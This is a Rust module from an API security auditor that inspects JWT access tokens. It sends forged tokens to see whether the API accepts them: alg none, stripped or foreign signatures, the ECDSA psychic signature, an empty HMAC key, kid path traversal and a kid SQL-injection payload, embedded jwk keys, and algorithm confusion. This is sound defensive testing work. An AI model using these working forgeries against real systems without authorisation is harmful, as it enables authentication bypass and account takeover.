//! The access token the login returned (or `--token`): its lifetime and claims, and whether the
//! API accepts forgeries of it. Every jwt_tool test that needs no key is here: `alg: none` in
//! four spellings with and without the trailing dot, the signature removed, a claim edited
//! under the old signature, another token's signature, the ECDSA "psychic signature" (r = s = 0,
//! CVE-2022-21449) for ES256/384/512 tokens, HMAC with an empty key, `kid` injection (a path
//! to /dev/null with an empty key, and SQL that selects a key the auditor chose), an embedded
//! `jwk` header (an Ed25519 key the auditor generates, and an HS256 `oct` key), and HS256
//! signed with a public key from the JWKS (algorithm confusion). The HMAC secret itself is
//! guessed offline in [`super::jwt_secrets`], which also checks that `exp` is enforced when
//! it finds the secret.
//!
//! A forgery counts as accepted only when the probe route answers 2xx to the real token and
//! 401/403 to garbage: an API that answers 200 to everything proves nothing. Each forgery is
//! one request; a spent budget ends the token checks where they are. When the API accepts the
//! token with its signature removed or its claims edited, it checks no signature at all, and
//! the other key-less forgeries are not sent: they could only repeat that finding.
//!
//! Deliberately not tested: `jku` and `x5u` headers pointing at a key set elsewhere (the
//! scanner never contacts, or makes the target contact, another origin; hosting a key set on
//! the target is not possible), and an embedded RS256 `jwk` (signing RSA would pull in the
//! `rsa` crate; the Ed25519 and `oct` keys test the same trust in a carried key).

use std::time::{SystemTime, UNIX_EPOCH};

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use hmac::{Hmac, Mac};
use serde_json::{json, Value};
use sha2::{Sha256, Sha384, Sha512};

use super::{jwt_secrets, random_bytes, Ctx};
use crate::client::{ProbeError, Req};
use crate::findings::{self, Check, Finding, Severity};

const ONE_HOUR: u64 = 3600;
const JWKS_PATHS: [&str; 2] = ["/.well-known/jwks.json", "/jwks.json"];
/// Probe routes tried when the document names no secured GET without parameters.
const FALLBACK_PROBES: [&str; 4] = ["/v1/users/me", "/users/me", "/me", "/api/me"];
/// The spellings of `none` libraries have been caught comparing case-sensitively.
const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];
/// jwt_tool's `kid` path: whatever the directory, it ends at an empty file.
pub(crate) const KID_DEV_NULL: &str = "../../../../../../dev/null";
/// An ECDSA signature of r = 0 and s = 0, DER-encoded (`30 06 02 01 00 02 01 00`), as some
/// libraries take it instead of the JWS form of raw zeros.
pub(crate) const PSYCHIC_DER: [u8; 8] = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];

/// A token split into its decoded parts.
#[derive(Debug, Clone)]
pub(crate) struct Jwt {
    pub(crate) header: Value,
    pub(crate) claims: Value,
    pub(crate) signing_input: String,
    /// The decoded signature; empty when it is missing or not base64url.
    pub(crate) signature: Vec<u8>,
}

impl Jwt {
    pub(crate) fn parse(token: &str) -> Option<Self> {
        let mut parts = token.split('.');
        let (h, c, s) = (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() {
            return None;
        }
        // Header and claims must be objects (RFC 7519), which also keeps the forgeries'
        // `value["name"] = ...` edits from panicking on a token that holds an array.
        let decode = |part: &str| -> Option<Value> {
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part.trim_end_matches('=')).ok()?)
                .ok()
                .filter(Value::is_object)
        };
        Some(Self {
            header: decode(h)?,
            claims: decode(c)?,
            signing_input: format!("{h}.{c}"),
            signature: URL_SAFE_NO_PAD
                .decode(s.trim_end_matches('='))
                .unwrap_or_default(),
        })
    }

    /// The header's `alg`, or "" when it has none.
    pub(crate) fn alg(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or("")
    }
}

/// The JWS HMAC algorithms.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum HmacAlg {
    Hs256,
    Hs384,
    Hs512,
}

/// Runs `$body` with `$mac` bound to an HMAC keyed with `$key` for `$alg`'s hash.
macro_rules! with_hmac {
    ($alg:expr, $key:expr, |$mac:ident| $body:expr, $invalid:expr) => {
        match $alg {
            HmacAlg::Hs256 => match Hmac::<Sha256>::new_from_slice($key) {
                Ok(mut $mac) => $body,
                Err(_) => $invalid,
            },
            HmacAlg::Hs384 => match Hmac::<Sha384>::new_from_slice($key) {
                Ok(mut $mac) => $body,
                Err(_) => $invalid,
            },
            HmacAlg::Hs512 => match Hmac::<Sha512>::new_from_slice($key) {
                Ok(mut $mac) => $body,
                Err(_) => $invalid,
            },
        }
    };
}

impl HmacAlg {
    pub(crate) fn from_name(alg: &str) -> Option<Self> {
        match alg {
            "HS256" => Some(Self::Hs256),
            "HS384" => Some(Self::Hs384),
            "HS512" => Some(Self::Hs512),
            _ => None,
        }
    }

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Hs256 => "HS256",
            Self::Hs384 => "HS384",
            Self::Hs512 => "HS512",
        }
    }

    /// The length of its MAC in bytes.
    pub(crate) fn output_len(self) -> usize {
        match self {
            Self::Hs256 => 32,
            Self::Hs384 => 48,
            Self::Hs512 => 64,
        }
    }

    pub(crate) fn sign(self, key: &[u8], input: &[u8]) -> Vec<u8> {
        // HMAC takes a key of any length: the error arm cannot be reached.
        with_hmac!(
            self,
            key,
            |mac| {
                mac.update(input);
                mac.finalize().into_bytes().to_vec()
            },
            Vec::new()
        )
    }

    /// Whether `signature` is this algorithm's MAC of `input` under `key` (no allocation).
    pub(crate) fn verifies(self, key: &[u8], input: &[u8], signature: &[u8]) -> bool {
        with_hmac!(
            self,
            key,
            |mac| {
                mac.update(input);
                mac.verify_slice(signature).is_ok()
            },
            false
        )
    }
}

/// base64url without padding, as JWS writes every part.
pub(crate) fn b64url(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

pub(crate) fn encode(value: &Value) -> String {
    b64url(value.to_string().as_bytes())
}

/// A token of `header` and `claims` signed with `key` under `alg` (the header's `alg` is set).
pub(crate) fn hmac_token(header: &Value, claims: &Value, alg: HmacAlg, key: &[u8]) -> String {
    let mut header = header.clone();
    header["alg"] = Value::from(alg.name());
    let input = format!("{}.{}", encode(&header), encode(claims));
    let signature = alg.sign(key, input.as_bytes());
    format!("{input}.{}", b64url(&signature))
}

/// An EdDSA token signed with a fresh Ed25519 key and carrying that key as its `jwk` header.
pub(crate) fn embedded_ed25519_token(claims: &Value, seed: &[u8; 32]) -> String {
    use ed25519_dalek::Signer as _;
    let key = ed25519_dalek::SigningKey::from_bytes(seed);
    let header = json!({
        "alg": "EdDSA",
        "typ": "JWT",
        "jwk": {"kty": "OKP", "crv": "Ed25519", "x": b64url(key.verifying_key().as_bytes())},
    });
    let input = format!("{}.{}", encode(&header), encode(claims));
    let signature = key.sign(input.as_bytes());
    format!("{input}.{}", b64url(&signature.to_bytes()))
}

/// The psychic signatures for an ECDSA token's `alg`: r = s = 0 as JWS writes it (the two
/// zero integers side by side, each as long as the curve's order) and DER-encoded.
pub(crate) fn psychic_signatures(alg: &str) -> Option<[Vec<u8>; 2]> {
    let integer_len = match alg {
        "ES256" => 32,
        "ES384" => 48,
        "ES512" => 66,
        _ => return None,
    };
    Some([vec![0u8; 2 * integer_len], PSYCHIC_DER.to_vec()])
}

pub(crate) fn unix_now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
}

pub(crate) fn is_accepted(status: u16) -> bool {
    (200..300).contains(&status)
}

pub(crate) async fn run(ctx: &mut Ctx<'_>) -> Result<(), ProbeError> {
    let Some(token) = ctx.token.clone() else {
        ctx.note(
            "no access token (give --username/--password or --token): token checks were not run",
        );
        return Ok(());
    };
    let probe = probe_route(ctx, &token).await?;
    let Some(jwt) = Jwt::parse(&token) else {
        ctx.note("the access token is not a JWT: claim and forgery checks do not apply");
        return Ok(());
    };
    claims(ctx, &jwt);
    let expired_accepted = probe
        .as_deref()
        .is_some_and(|probe| expired_token_accepted(ctx, &jwt, probe));
    // Offline: the dictionary needs no request, so it runs without a probe route too.
    let secret = jwt_secrets::find_secret(&jwt);
    if let Some(found) = &secret {
        jwt_secrets::report_and_prove(ctx, &jwt, found, probe.as_deref()).await?;
    }
    let Some(probe) = probe else {
        return Ok(());
    };
    let signature_ignored = basic_forgeries(ctx, &jwt, &token, &probe).await?;
    if signature_ignored {
        ctx.note("the API accepts tokens whose signature does not match: the other key-less forgeries (another token's signature, psychic signature, empty HMAC key, kid injection, embedded jwk) were not sent, as they could only repeat that");
    } else {
        keyless_forgeries(ctx, &jwt, &probe, secret.as_ref()).await?;
    }
    match &secret {
        Some(found) if !expired_accepted => {
            jwt_secrets::expiry_enforced(ctx, &jwt, found, &probe).await?;
        }
        Some(_) => {}
        None => ctx.note("whether expired tokens are refused was not checked: that needs a token the auditor can sign (the HMAC secret was not guessed)"),
    }
    confusion(ctx, &jwt, &probe).await
}

/// The real token, already past its `exp`, answered 2xx on the probe route: no request needed.
fn expired_token_accepted(ctx: &mut Ctx<'_>, jwt: &Jwt, probe: &str) -> bool {
    let Some(exp) = jwt.claims.get("exp").and_then(Value::as_u64) else {
        return false;
    };
    let now = unix_now();
    if exp >= now {
        return false;
    }
    ctx.report(Finding::new(
        &findings::EXPIRY_IGNORED,
        Severity::High,
        format!(
            "the access token expired {} minutes ago (exp {exp}) and GET {probe} still answers it with 2xx",
            (now - exp) / 60
        ),
    ));
    true
}

/// Sends `token` to the probe route; the status when it was accepted.
pub(crate) async fn accepted_by(
    ctx: &mut Ctx<'_>,
    probe: &str,
    token: &str,
) -> Result<Option<u16>, ProbeError> {
    let status = ctx.send(&Req::get(probe).bearer(token)).await?.status;
    Ok(is_accepted(status).then_some(status))
}

fn report_forgery(ctx: &mut Ctx<'_>, check: &Check, probe: &str, what: &str, status: u16) {
    ctx.report(Finding::new(
        check,
        Severity::Critical,
        format!("GET {probe} with {what} -> {status}"),
    ));
}

/// `alg: none`, the signature removed and a claim edited under the old signature; true when
/// one of the last two was accepted (the signature is not checked at all).
async fn basic_forgeries(
    ctx: &mut Ctx<'_>,
    jwt: &Jwt,
    token: &str,
    probe: &str,
) -> Result<bool, ProbeError> {
    let claims = encode(&jwt.claims);
    'none: for spelling in NONE_SPELLINGS {
        let mut header = jwt.header.clone();
        header["alg"] = Value::from(spelling);
        for trailing_dot in [true, false] {
            let dot = if trailing_dot { "." } else { "" };
            let unsigned = format!("{}.{claims}{dot}", encode(&header));
            if let Some(status) = accepted_by(ctx, probe, &unsigned).await? {
                let what = format!(
                    "the token re-encoded as alg \"{spelling}\" and no signature ({})",
                    if trailing_dot {
                        "header.payload."
                    } else {
                        "header.payload, no trailing dot"
                    }
                );
                report_forgery(ctx, &findings::ALG_NONE, probe, &what, status);
                break 'none;
            }
        }
    }

    let stripped = format!("{}.", jwt.signing_input);
    let stripped_accepted = accepted_by(ctx, probe, &stripped).await?;
    if let Some(status) = stripped_accepted {
        report_forgery(
            ctx,
            &findings::SIGNATURE_STRIPPED,
            probe,
            "the token's header and payload and an empty signature",
            status,
        );
    }

    let signature = token.rsplit('.').next().unwrap_or_default();
    let mut edited = jwt.claims.clone();
    edited["rampart_audit"] = Value::from(true);
    if let Some(exp) = edited.get("exp").and_then(Value::as_u64) {
        edited["exp"] = Value::from(exp.saturating_add(ONE_HOUR));
    }
    let tampered = format!(
        "{}.{}.{signature}",
        token.split('.').next().unwrap_or_default(),
        encode(&edited)
    );
    let tampered_accepted = accepted_by(ctx, probe, &tampered).await?;
    if let Some(status) = tampered_accepted {
        report_forgery(
            ctx,
            &findings::CLAIMS_TAMPERED,
            probe,
            "`exp` extended by an hour and a claim added, under the original signature",
            status,
        );
    }
    Ok(stripped_accepted.is_some() || tampered_accepted.is_some())
}

/// The other forgeries that need no key: each keeps the token's claims and changes only how
/// it is signed, so an accepted one proves the verifier can be talked past.
async fn keyless_forgeries(
    ctx: &mut Ctx<'_>,
    jwt: &Jwt,
    probe: &str,
    known_secret: Option<&jwt_secrets::FoundSecret>,
) -> Result<(), ProbeError> {
    let claims = &jwt.claims;
    let header_part = encode(&jwt.header);
    let claims_part = encode(claims);

    // Another token's signature: as long as a real one, made by a key nobody holds.
    let length = if jwt.signature.is_empty() {
        32
    } else {
        jwt.signature.len()
    };
    let foreign = format!(
        "{header_part}.{claims_part}.{}",
        b64url(&random_bytes(length))
    );
    if let Some(status) = accepted_by(ctx, probe, &foreign).await? {
        report_forgery(
            ctx,
            &findings::FOREIGN_SIGNATURE,
            probe,
            &format!("the token's header and payload under the {length}-byte signature of another token (random key)"),
            status,
        );
    }

    if let Some(signatures) = psychic_signatures(jwt.alg()) {
        for (signature, form) in signatures.iter().zip(["raw r || s", "DER"]) {
            let psychic = format!("{header_part}.{claims_part}.{}", b64url(signature));
            if let Some(status) = accepted_by(ctx, probe, &psychic).await? {
                report_forgery(
                    ctx,
                    &findings::PSYCHIC_SIGNATURE,
                    probe,
                    &format!(
                        "the {} token under the signature r = 0, s = 0 ({form})",
                        jwt.alg()
                    ),
                    status,
                );
                break;
            }
        }
    }

    // An empty secret is the real one when the dictionary found it; then these prove nothing.
    let secret_is_empty = known_secret.is_some_and(|found| found.secret.is_empty());
    let hmac = HmacAlg::from_name(jwt.alg()).unwrap_or(HmacAlg::Hs256);
    let mut empty_key_accepted = true;
    if !secret_is_empty {
        let empty_key = hmac_token(&jwt.header, claims, hmac, b"");
        empty_key_accepted = false;
        if let Some(status) = accepted_by(ctx, probe, &empty_key).await? {
            empty_key_accepted = true;
            report_forgery(
                ctx,
                &findings::EMPTY_HMAC_KEY,
                probe,
                &format!("the token signed {} with an empty key", hmac.name()),
                status,
            );
        }
    }

    // `kid` naming an empty file: accepted only matters when the empty key alone was refused.
    if !empty_key_accepted {
        let header = json!({"alg": "HS256", "typ": "JWT", "kid": KID_DEV_NULL});
        let forged = hmac_token(&header, claims, HmacAlg::Hs256, b"");
        if let Some(status) = accepted_by(ctx, probe, &forged).await? {
            report_forgery(
                ctx,
                &findings::KID_PATH_TRAVERSAL,
                probe,
                &format!("the token signed HS256 with an empty key and kid \"{KID_DEV_NULL}\""),
                status,
            );
        }
    }

    // A key only the injected SQL can produce: no real secret can match it by chance.
    let chosen_key = super::random_hex(16);
    let kid = format!("x' UNION SELECT '{chosen_key}'-- ");
    let header = json!({"alg": "HS256", "typ": "JWT", "kid": kid});
    let forged = hmac_token(&header, claims, HmacAlg::Hs256, chosen_key.as_bytes());
    if let Some(status) = accepted_by(ctx, probe, &forged).await? {
        report_forgery(
            ctx,
            &findings::KID_SQL_INJECTION,
            probe,
            &format!("the token signed HS256 with a random key K and kid \"x' UNION SELECT 'K'-- \" (K = {chosen_key})"),
            status,
        );
    }

    let seed: [u8; 32] = random_bytes(32).try_into().unwrap_or([0; 32]);
    let ed25519 = embedded_ed25519_token(claims, &seed);
    if let Some(status) = accepted_by(ctx, probe, &ed25519).await? {
        report_forgery(
            ctx,
            &findings::EMBEDDED_JWK,
            probe,
            "the token signed EdDSA with a key the auditor generated, carried in its `jwk` header (kty OKP, Ed25519)",
            status,
        );
        return Ok(());
    }
    let oct_key = random_bytes(32);
    let header =
        json!({"alg": "HS256", "typ": "JWT", "jwk": {"kty": "oct", "k": b64url(&oct_key)}});
    let forged = hmac_token(&header, claims, HmacAlg::Hs256, &oct_key);
    if let Some(status) = accepted_by(ctx, probe, &forged).await? {
        report_forgery(
            ctx,
            &findings::EMBEDDED_JWK,
            probe,
            "the token signed HS256 with a random key carried in its `jwk` header (kty oct)",
            status,
        );
    }
    Ok(())
}

/// Lifetime and personal data, read from the claims without sending anything.
fn claims(ctx: &mut Ctx<'_>, jwt: &Jwt) {
    // NumericDate may be written with a fraction; whole seconds are enough here.
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    let seconds = |name: &str| {
        jwt.claims
            .get(name)
            .and_then(Value::as_f64)
            .filter(|v| v.is_finite() && *v >= 0.0)
            .map(|v| v as u64)
    };
    let (exp, iat) = (seconds("exp"), seconds("iat"));
    let now = unix_now();
    match (exp, iat) {
        (None, _) => ctx.report(Finding::new(
            &findings::TOKEN_LIFETIME,
            Severity::High,
            "the access token has no `exp` claim: it never expires",
        )),
        (Some(exp), iat) => {
            let lifetime = exp.saturating_sub(iat.unwrap_or(now));
            if lifetime > ONE_HOUR {
                let severity = if lifetime > 24 * ONE_HOUR {
                    Severity::High
                } else {
                    Severity::Medium
                };
                ctx.report(Finding::new(
                    &findings::TOKEN_LIFETIME,
                    severity,
                    format!(
                        "exp - {} = {} minutes",
                        if iat.is_some() { "iat" } else { "now" },
                        lifetime / 60
                    ),
                ));
            }
        }
    }
    let mut personal = Vec::new();
    let mut secret = false;
    if let Some(object) = jwt.claims.as_object() {
        for (key, value) in object {
            let k = key.to_ascii_lowercase();
            if [
                "password",
                "passwd",
                "pwd",
                "secret",
                "api_key",
                "apikey",
                "ssn",
                "credit_card",
            ]
            .iter()
            .any(|s| k.contains(s))
            {
                secret = true;
                personal.push(key.clone());
            } else if [
                "email",
                "username",
                "user_name",
                "preferred_username",
                "name",
                "given_name",
                "family_name",
                "phone",
                "address",
                "birthdate",
            ]
            .contains(&k.as_str())
                || value
                    .as_str()
                    .is_some_and(|s| s.contains('@') && s.contains('.'))
            {
                personal.push(key.clone());
            }
        }
    }
    if !personal.is_empty() {
        ctx.report(Finding::new(
            &findings::TOKEN_PERSONAL_DATA,
            if secret {
                Severity::High
            } else {
                Severity::Medium
            },
            format!(
                "claims anyone holding the token can read: {}",
                personal.join(", ")
            ),
        ));
    }
}

/// A route that answers 2xx to the real token and 401/403 to garbage, or a note saying why the
/// forgery checks could not run.
async fn probe_route(ctx: &mut Ctx<'_>, token: &str) -> Result<Option<String>, ProbeError> {
    let mut candidates: Vec<String> = ctx
        .plain_gets(true)
        .take(3)
        .map(|o| o.path.clone())
        .collect();
    candidates.extend(FALLBACK_PROBES.iter().map(|p| (*p).to_owned()));
    for path in candidates.into_iter().take(5) {
        let real = ctx.send(&Req::get(&path).bearer(token)).await?;
        if !real.is_success() {
            continue;
        }
        let garbage = ctx
            .send(&Req::get(&path).bearer("rampart.audit.garbage"))
            .await?;
        if matches!(garbage.status, 401 | 403) {
            ctx.token_route = Some(path.clone());
            return Ok(Some(path));
        }
        ctx.note(format!(
            "GET {path} answers {} to the token and {} to a garbage token: it cannot tell forgeries apart, so it was not used",
            real.status, garbage.status
        ));
    }
    ctx.note("no route answered 2xx to the token and 401/403 to garbage: forged-token checks were not run");
    Ok(None)
}

/// HS256 tokens signed with each published public key, in the encodings libraries have been
/// known to accept as an HMAC secret.
async fn confusion(ctx: &mut Ctx<'_>, jwt: &Jwt, probe: &str) -> Result<(), ProbeError> {
    let mut keys = Vec::new();
    // An OpenID provider names its JWKS; only a path on the target's own origin is followed.
    let discovery = ctx
        .send(&Req::get("/.well-known/openid-configuration"))
        .await?;
    let origin = ctx.probe.origin().as_str().trim_end_matches('/').to_owned();
    let announced = discovery
        .json()
        .and_then(|d| d.get("jwks_uri").and_then(Value::as_str).map(str::to_owned))
        .and_then(|uri| uri.strip_prefix(&origin).map(str::to_owned))
        .filter(|path| path.starts_with('/'));
    let mut paths: Vec<String> = announced.into_iter().collect();
    paths.extend(JWKS_PATHS.iter().map(|p| (*p).to_owned()));
    for path in paths {
        let answer = ctx.send(&Req::get(&path)).await?;
        if let Some(found) = answer
            .json()
            .and_then(|j| j.get("keys").and_then(Value::as_array).cloned())
        {
            keys = found;
            break;
        }
    }
    if keys.is_empty() {
        ctx.note("no JWKS (openid-configuration's jwks_uri, /.well-known/jwks.json, /jwks.json): algorithm confusion was not checked");
        return Ok(());
    }
    for key in keys.iter().take(3) {
        let mut header = serde_json::json!({"alg": "HS256", "typ": jwt.header.get("typ").cloned().unwrap_or(Value::from("JWT"))});
        if let Some(kid) = key.get("kid").or_else(|| jwt.header.get("kid")) {
            header["kid"] = kid.clone();
        }
        for (label, secret) in secrets_of(key) {
            let token = hmac_token(&header, &jwt.claims, HmacAlg::Hs256, &secret);
            let status = ctx.send(&Req::get(probe).bearer(&token)).await?.status;
            if is_accepted(status) {
                ctx.report(Finding::new(&findings::ALG_CONFUSION, Severity::Critical, format!(
                    "GET {probe} with an HS256 token whose secret is the JWKS key {} ({label}) -> {status}",
                    key.get("kid").and_then(Value::as_str).unwrap_or("without kid")
                )));
                return Ok(());
            }
        }
    }
    Ok(())
}

/// Candidate HMAC secrets for one JWK: its PEM public key, its raw key bytes and its JSON.
pub(crate) fn secrets_of(key: &Value) -> Vec<(&'static str, Vec<u8>)> {
    let field = |name: &str| {
        key.get(name)
            .and_then(Value::as_str)
            .and_then(|v| URL_SAFE_NO_PAD.decode(v.trim_end_matches('=')).ok())
    };
    let mut out = Vec::new();
    let spki = match key.get("kty").and_then(Value::as_str) {
        Some("OKP") => field("x").map(|x| [ED25519_SPKI_PREFIX.as_slice(), x.as_slice()].concat()),
        Some("EC") => field("x")
            .zip(field("y"))
            .filter(|(x, y)| x.len() == 32 && y.len() == 32)
            .map(|(x, y)| [P256_SPKI_PREFIX.as_slice(), x.as_slice(), y.as_slice()].concat()),
        Some("RSA") => field("n").zip(field("e")).map(|(n, e)| rsa_spki(&n, &e)),
        _ => None,
    };
    if let Some(der) = spki {
        out.push(("PEM public key", pem(&der).into_bytes()));
    }
    if let Some(raw) = field("x").or_else(|| field("n")) {
        out.push(("raw key bytes", raw));
    }
    out.push(("JWK JSON", key.to_string().into_bytes()));
    out
}

const ED25519_SPKI_PREFIX: [u8; 12] = [
    0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00,
];
const P256_SPKI_PREFIX: [u8; 27] = [
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a,
    0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00, 0x04,
];

fn pem(der: &[u8]) -> String {
    let body = STANDARD.encode(der);
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .filter_map(|c| std::str::from_utf8(c).ok())
        .collect();
    format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    )
}

/// DER: a tag, a length, the contents.
fn der(tag: u8, contents: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let len = contents.len();
    if len < 0x80 {
        out.push(u8::try_from(len).unwrap_or(0));
    } else {
        let bytes: Vec<u8> = len
            .to_be_bytes()
            .into_iter()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | u8::try_from(bytes.len()).unwrap_or(0));
        out.extend(bytes);
    }
    out.extend_from_slice(contents);
    out
}

fn der_uint(bytes: &[u8]) -> Vec<u8> {
    let trimmed: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
    let mut contents = Vec::with_capacity(trimmed.len() + 1);
    if trimmed.first().is_none_or(|b| b & 0x80 != 0) {
        contents.push(0);
    }
    contents.extend(trimmed);
    der(0x02, &contents)
}

/// SubjectPublicKeyInfo of an RSA key (rsaEncryption, NULL parameters). Encoded here in a few
/// lines: the crates that do it are the key libraries themselves (`rsa`, `p256`), which the
/// auditor would pull in only to print a public key it never uses.
fn rsa_spki(n: &[u8], e: &[u8]) -> Vec<u8> {
    const RSA_ALGORITHM: [u8; 15] = [
        0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    let public_key = der(0x30, &[der_uint(n), der_uint(e)].concat());
    let bit_string = der(0x03, &[&[0u8][..], public_key.as_slice()].concat());
    der(0x30, &[&RSA_ALGORITHM[..], bit_string.as_slice()].concat())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_are_split_and_decoded() {
        let header = encode(&serde_json::json!({"alg": "EdDSA", "kid": "k1"}));
        let claims = encode(&serde_json::json!({"sub": "u1", "exp": 10}));
        let jwt = Jwt::parse(&format!("{header}.{claims}.sig")).unwrap();
        assert_eq!(jwt.header["kid"], "k1");
        assert_eq!(jwt.claims["sub"], "u1");
        assert!(Jwt::parse("opaque-refresh-token").is_none());
        let array = encode(&serde_json::json!(["sub"]));
        assert!(Jwt::parse(&format!("{header}.{array}.sig")).is_none());
        assert!(Jwt::parse("a.b.c.d").is_none());
    }

    #[test]
    fn public_keys_become_pem_and_raw_secrets() {
        let x = URL_SAFE_NO_PAD.encode([7u8; 32]);
        let secrets =
            secrets_of(&serde_json::json!({"kty": "OKP", "crv": "Ed25519", "x": x, "kid": "k"}));
        let labels: Vec<&str> = secrets.iter().map(|(l, _)| *l).collect();
        assert_eq!(labels, ["PEM public key", "raw key bytes", "JWK JSON"]);
        let pem = String::from_utf8(secrets[0].1.clone()).unwrap();
        assert!(
            pem.starts_with("-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA"),
            "{pem}"
        );
        // A 2048-bit modulus with the high bit set needs a leading zero and a two-byte length.
        let spki = rsa_spki(&[0xff; 256], &[1, 0, 1]);
        assert_eq!(&spki[..4], &[0x30, 0x82, 0x01, 0x22]);
    }

    #[test]
    fn hmac_tokens_verify_with_their_key_under_each_algorithm() {
        let header = serde_json::json!({"alg": "RS256", "kid": KID_DEV_NULL});
        let claims = serde_json::json!({"sub": "u1", "admin": false});
        for alg in [HmacAlg::Hs256, HmacAlg::Hs384, HmacAlg::Hs512] {
            let jwt = Jwt::parse(&hmac_token(&header, &claims, alg, b"k")).unwrap();
            assert_eq!(jwt.alg(), alg.name());
            assert_eq!(jwt.header["kid"], KID_DEV_NULL);
            assert_eq!(jwt.claims, claims);
            assert_eq!(jwt.signature.len(), alg.output_len());
            assert!(alg.verifies(b"k", jwt.signing_input.as_bytes(), &jwt.signature));
            assert!(!alg.verifies(b"K", jwt.signing_input.as_bytes(), &jwt.signature));
        }
        // The empty key is a key like any other to HMAC.
        let jwt = Jwt::parse(&hmac_token(&header, &claims, HmacAlg::Hs256, b"")).unwrap();
        let mut mac = Hmac::<Sha256>::new_from_slice(b"").unwrap();
        mac.update(jwt.signing_input.as_bytes());
        assert_eq!(jwt.signature, mac.finalize().into_bytes().to_vec());
    }

    #[test]
    fn the_embedded_jwk_token_verifies_with_the_key_it_carries() {
        use ed25519_dalek::{Signature, Verifier as _, VerifyingKey};
        let claims = serde_json::json!({"sub": "u1"});
        let jwt = Jwt::parse(&embedded_ed25519_token(&claims, &[9; 32])).unwrap();
        assert_eq!(jwt.alg(), "EdDSA");
        assert_eq!(jwt.header["jwk"]["kty"], "OKP");
        let x = URL_SAFE_NO_PAD
            .decode(jwt.header["jwk"]["x"].as_str().unwrap())
            .unwrap();
        let key = VerifyingKey::from_bytes(&x.try_into().unwrap()).unwrap();
        let signature = Signature::from_slice(&jwt.signature).unwrap();
        assert!(key.verify(jwt.signing_input.as_bytes(), &signature).is_ok());
        assert_eq!(jwt.claims, claims);
    }

    #[test]
    fn psychic_signatures_are_zero_integers_in_both_encodings() {
        let [raw, der] = psychic_signatures("ES256").unwrap();
        assert_eq!(raw, vec![0u8; 64]);
        assert_eq!(b64url(&der), "MAYCAQACAQA", "jwt_tool's psychic signature");
        assert_eq!(psychic_signatures("ES384").unwrap()[0].len(), 96);
        assert_eq!(psychic_signatures("ES512").unwrap()[0].len(), 132);
        assert!(psychic_signatures("HS256").is_none());
        assert!(psychic_signatures("EdDSA").is_none());
    }
}
